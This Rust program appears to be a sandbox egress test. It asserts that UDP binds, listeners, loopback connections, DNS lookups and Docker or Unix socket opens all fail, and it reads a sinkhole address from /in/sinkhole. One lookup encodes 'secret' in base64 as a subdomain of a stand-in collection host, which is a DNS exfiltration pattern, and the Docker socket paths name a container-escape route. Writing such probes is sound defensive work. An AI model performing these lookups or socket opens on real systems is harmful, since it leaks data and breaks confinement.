//! Every way out that is no request: UDP, sockets that listen, lookups, and sockets that are files. Whom it tries is in
//! `/in/sinkhole`.

use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};

fn main() {
    let sinkhole = std::fs::read_to_string("/in/sinkhole").expect("it is there");
    let (_, port) = sinkhole.rsplit_once(':').expect("a port");
    for own in ["0.0.0.0:0", "[::]:0", "127.0.0.1:0", "127.0.0.1:53", "255.255.255.255:9", "224.0.0.251:5353"] {
        assert!(UdpSocket::bind(own).is_err(), "{own} was bound for UDP");
        assert!(TcpListener::bind(own).is_err(), "{own} is listened on");
    }
    for to in ["127.0.0.1", "127.0.0.2", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]"] {
        assert!(TcpStream::connect(format!("{to}:{port}")).is_err(), "{to} was connected to");
    }
    for name in ["localhost:80", "c2VjcmV0.collect.example:53"] {
        assert!(name.to_socket_addrs().is_err(), "{name} was looked up");
    }
    for socket in ["/in/socket", "/out/socket", "/run/docker.sock", "/var/run/docker.sock", "\0abstract"] {
        let opened = std::fs::File::options().read(true).write(true).open(socket);
        assert!(opened.is_err() && std::fs::read(socket).is_err(), "{socket:?} was opened");
    }
}
